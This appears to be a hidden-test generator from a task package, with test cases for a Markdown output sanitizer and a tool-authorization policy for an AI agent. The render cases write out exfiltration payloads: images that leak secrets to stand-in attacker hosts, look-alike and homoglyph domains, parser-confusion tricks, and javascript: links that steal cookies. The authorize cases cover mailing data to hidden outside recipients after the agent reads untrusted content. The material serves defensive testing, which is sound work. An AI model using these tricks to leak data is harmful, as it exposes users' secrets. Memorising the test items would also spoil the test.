"""Hidden tests drawn per seed: domains, look-alike hosts, Markdown forms, recipients, amounts.

render cases are judged by grader.py (what the output lets through, read back as text);
authorize cases compare the decision exactly.
"""

DOMAINS = ["example.com", "acme.io", "contoso.org", "northwind.net", "fabrikam.co.uk"]
EVIL = ["evil.test", "attacker.example", "exfil.invalid", "collector.test", "cdn-stats.test"]
SUBS = ["docs", "cdn", "static", "img", "help"]
WORDS = ["Done", "Here is the summary", "Your ticket is updated", "Report ready", "As requested"]
CYRILLIC = {"a": "\u0430", "e": "\u0435", "o": "\u043e", "c": "\u0441"}
READ_ONLY = ["search_kb", "get_order"]
FAKE_TOOLS = [
    "send_email_bulk", "resend_email", "send_email_external", "issue_refund_batch",
    "reissue_refund", "issue_refund_override", "Get_Order", "search_kb_admin", "run_shell",
    "delete_account", "SEND_EMAIL",
]
COMPANY = "example.com"


def _payload(rng):
    return rng.choice(["d", "q", "x", "u"]) + "=" + rng.choice(["ACCT", "SSN", "KEY", "TOK"]) + f"-{rng.randint(10000, 99999)}"


def _lookalike(rng, domain):
    evil = rng.choice(EVIL)
    homoglyph = next(c for c in domain if c in CYRILLIC)
    forms = [
        (f"https://{domain}.{evil}", f"{domain}.{evil}"),
        (f"https://not{domain}", f"not{domain}"),
        (f"https://{rng.choice(SUBS)}{domain}", None),
        (f"https://{domain}@{evil}", evil),
        (f"https://{evil}:443", evil),
        ("https://" + domain.replace(homoglyph, CYRILLIC[homoglyph], 1), None),
    ]
    url, marker = rng.choice(forms)
    return url, marker or url.split("//", 1)[1]


def _render(name, text, domains, plain=None, present=(), absent=(), points=1, critical=None):
    case = {
        "name": name,
        "args": ["render", text, domains],
        "expected": {"plain": plain, "present": list(present), "absent": list(absent)},
        "comparator": "custom",
        "points": points,
    }
    if critical:
        case["critical"] = critical
    return case


def _authorize(name, tool, args, untrusted, decision, points=1, critical=None):
    case = {
        "name": name,
        "args": ["authorize", {"tool": tool, "args": args}, {"untrusted_content": untrusted}],
        "expected": decision,
        "points": points,
    }
    if critical:
        case["critical"] = critical
    return case


def _cased(rng, domain):
    """The domain with some letters in upper case (domains are case-insensitive)."""
    return rng.choice([domain.upper(), domain.title(), domain[0].upper() + domain[1:]])


def _render_cases(rng):
    domain = rng.choice(DOMAINS)
    other = rng.choice(["partner.dev", "cdn.assets.net"])
    domains = [domain] if rng.random() < 0.5 else [other, domain]
    sub = rng.choice(SUBS)
    evil = rng.choice(EVIL)
    cases = []

    # 1. an image on a look-alike host, in text with HTML-special characters
    url, marker = _lookalike(rng, domain)
    secret = _payload(rng)
    lead = rng.choice(WORDS)
    n = rng.randint(2, 9)
    text = f"{lead} & \"{n} items\" <b>sent</b>! ![status]({url}/p.png?{secret}) Thanks, it's done."
    plain = f"{lead} & \"{n} items\" <b>sent</b>! [image removed] Thanks, it's done."
    cases.append(_render(
        "image on a look-alike host is removed and the rest escaped", text, domains, plain=plain,
        absent=[marker, secret], points=2,
        critical="an image on a host that is not allowed leaks data without a click",
    ))

    # 2. reference-style images and links (full, collapsed, shortcut), labels in another case
    s1, s2, s3 = _payload(rng), _payload(rng), _payload(rng)
    labels = rng.sample(["chart", "fig 1", "logo", "q3", "sig"], 3)
    forms = [f"![the chart][{labels[0].upper()}]", f"![{labels[1].title()}][]", f"![{labels[2].upper()}]"]
    rng.shuffle(forms)
    text = (
        f"Totals: {forms[0]} (see below), {forms[1]} and {forms[2]}.\n"
        f"Read [the guide][g] (internal) or [Reset Here][].\n\n"
        f"[{labels[0]}]: https://{evil}/c.png?{s1} \"Chart\"\n"
        f"[{labels[1]}]: <https://{evil}/f.png?{s2}>\n"
        f"[{labels[2]}]: //{evil}/l.png\n"
        f"[G]: https://{sub}.{domain}/guide\n"
        f"[reset here]: https://{evil}/r?{s3}\n"
    )
    cases.append(_render(
        "reference-style images and links to another host are removed", text, domains,
        present=["Totals: [image removed] (see below), [image removed] and [image removed].",
                 "Read [the guide][g] (internal) or Reset Here", f"https://{sub}.{domain}/guide"],
        absent=[evil, s1, s2, s3], points=2,
        critical="a reference-style image is fetched by the renderer like any other image",
    ))

    # 3. Markdown and URL parser confusions: nested or escaped brackets, parentheses, backslash
    s1, s2, s3 = _payload(rng), _payload(rng), _payload(rng)
    images = [
        f"![{rng.choice(['see [1]', 'fig [a] here', '[x]'])}](https://{evil}/a.png?{s1})",
        f"![pic](https://{evil}/img_(1).png?{s2})",
        f"![x](https://{evil}\\@{sub}.{domain}/p.png)",
        f"![see note {rng.randint(1, 9)}\\]](https://{evil}/e.png?{s3})",
    ]
    rng.shuffle(images)
    text = " then ".join(images[:2]) + images[2] + " then " + images[3]
    plain = "[image removed] then [image removed][image removed] then [image removed]"
    cases.append(_render(
        "images hidden by brackets, parentheses or a backslash are removed", text, domains,
        plain=plain, absent=[evil, s1, s2, s3], points=2,
        critical="a parser confusion must not let an image from another host through",
    ))

    # 4. allowed content stays, even in upper case, with a port, a title or angle brackets;
    # the allowed domains themselves are given in mixed case
    port = rng.choice(["", ":8443", ":443"])
    kept = [
        f"![logo](HTTPS://{sub.upper()}.{domain.upper()}{port}/l.png)",
        f"[the policy](https://{domain}/leave?a=1&b=2 \"Leave policy\")",
        f"[help](<https://{rng.choice(SUBS)}.{domain}/a b>)",
    ]
    rng.shuffle(kept)
    text = f"See {kept[0]}, {kept[1]} and {kept[2]} [draft](v{rng.randint(2, 9)} or [notes"
    cased = [_cased(rng, d) for d in domains]
    cases.append(_render("allowed images and links stay as they are", text, cased, plain=text))

    # 5. links: scheme tricks lose their target, a link around a bad image keeps its target
    secret = _payload(rng)
    bad = rng.choice([
        "javascript:alert(document.cookie)", f"JaVaScRiPt:fetch('//{evil}')", f"//{evil}/r",
        f"data:text/html,<script>location='https://{evil}/'</script>", f"mailto:help@{evil}",
    ])
    word = rng.choice(["click", "reset", "open", "verify"])
    text = (f"[{word}]({bad}) or [![badge](https://{evil}/b.svg?{secret})](https://{sub}.{domain}/b) "
            f"or [more](https://{evil}/(x)?{secret}) or [login](javascript://{sub}.{domain}/%0Aalert(1))")
    plain = f"{word} or [[image removed]](https://{sub}.{domain}/b) or more or login"
    cases.append(_render(
        "links to other schemes or hosts keep only their text", text, domains, plain=plain,
        absent=[evil, secret, "javascript"], points=2,
    ))
    return cases


def _authorize_cases(rng):
    cases = []
    user = rng.choice(["ana", "team", "billing", "j.doe", "ops+alerts"])
    evil = rng.choice(EVIL)
    trap = rng.choice([f"{COMPANY}.{evil}", f"{COMPANY}-mail.{evil}", f"{COMPANY}s.net"])
    cases.append(_authorize(
        "mail to a look-alike domain while reading untrusted content is denied",
        "send_email", {"to": f"{user}@{trap}", "subject": "Re: your data"}, True, "deny",
        points=2, critical="sending mail out after reading untrusted content is exfiltration",
    ))

    lookalike = rng.choice(["not", "my-", "evil", "x"]) + COMPANY
    inside = [f"{user}@{COMPANY}", f"ops@{COMPANY.upper()}"]
    outside = f"{rng.choice(['drop', 'x', 'archive'])}@{lookalike}"
    hiding = rng.choice([
        {"to": inside[0], "bcc": outside},
        {"to": inside[0], "cc": [inside[1], outside]},
        {"to": f"{outside}, {inside[0]}"},
        {"to": [inside[0], f"Archive <{outside}>"]},
    ])
    cases.append(_authorize(
        "an outside recipient hidden among internal ones is denied when content is untrusted",
        "send_email", hiding, True, "deny", points=2,
        critical="one outside recipient is enough to exfiltrate data",
    ))

    to = rng.choice([
        f"{user.title()} <{user}@{COMPANY.upper()}>", [f"{user}@{COMPANY}", "ops@Example.Com"],
        f" {user}@{COMPANY} ",
    ])
    cases.append(_authorize(
        "internal mail written in other forms is allowed in a trusted context",
        "send_email", {"to": to, "cc": []} if rng.random() < 0.5 else {"to": to}, False, "allow",
    ))

    over = rng.choice([100.01, 101, 100.5, 150 + rng.randint(0, 900)])
    over = str(over) if rng.random() < 0.3 else over
    cases.append(_authorize(
        "a refund over the limit is denied", "issue_refund",
        {"amount": over, "order": f"A{rng.randint(100, 999)}"}, False, "deny", points=2,
        critical="a refund over the limit must never run, even with approval",
    ))
    cases.append(_authorize(
        "a refund of exactly the limit asks a person", "issue_refund",
        {"amount": rng.choice([100, 100.0])}, rng.random() < 0.5, "confirm",
    ))
    cases.append(_authorize(
        "a refund of nothing is denied", "issue_refund", {"amount": rng.choice([0, 0.0])}, False, "deny",
        critical="a refund with an invalid amount must not be offered for approval",
    ))

    cases.append(_authorize(
        "a refund amount below zero or no number is denied", "issue_refund",
        {"amount": rng.choice([-rng.randint(1, 99), None, True])}, False, "deny",
        critical="a refund with an invalid amount must not be offered for approval",
    ))
    cases.append(_authorize(
        "a refund amount written as text is denied", "issue_refund",
        {"amount": rng.choice([str(rng.randint(1, 99)), f"{rng.randint(1, 99)}.50", "$20"])}, False, "deny",
    ))

    fakes = [
        (rng.choice(["send_email_bulk", "send_email_external", "send_emails"]), {"to": f"{user}@{COMPANY}"}),
        (rng.choice(["resend_email", "bulk_send_email", "auto_send_email"]), {"to": f"{user}@{COMPANY}"}),
        (rng.choice(["issue_refund_batch", "issue_refund_override", "issue_refunds"]), {"amount": rng.randint(1, 99)}),
        (rng.choice(["reissue_refund", "auto_issue_refund", "force_issue_refund"]), {"amount": rng.randint(1, 99)}),
    ]
    for i, (fake, args) in enumerate(fakes, 1):
        cases.append(_authorize(
            f"a tool that only looks like an allowed one is denied ({i})", fake, args, False, "deny",
            critical="a tool that is not on the list must never run",
        ))
    return cases


def hidden_cases(rng):
    cases = _render_cases(rng) + _authorize_cases(rng)
    rng.shuffle(cases)
    return cases
